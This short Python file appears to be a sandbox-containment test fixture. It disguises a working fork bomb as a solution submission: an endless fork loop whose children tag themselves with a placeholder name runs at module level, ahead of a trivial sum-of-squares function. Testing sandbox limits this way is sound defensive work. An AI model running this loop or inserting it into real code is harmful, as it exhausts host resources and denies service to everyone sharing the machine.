# A fork bomb; every child renames itself so the test can look for survivors on the host.
import ctypes
import os

libc = ctypes.CDLL(None)
while True:
    try:
        if os.fork() == 0:
            libc.prctl(15, b"@@TOKEN@@", 0, 0, 0)  # PR_SET_NAME
    except OSError:
        pass


def solve(xs):
    return sum(x * x for x in xs)
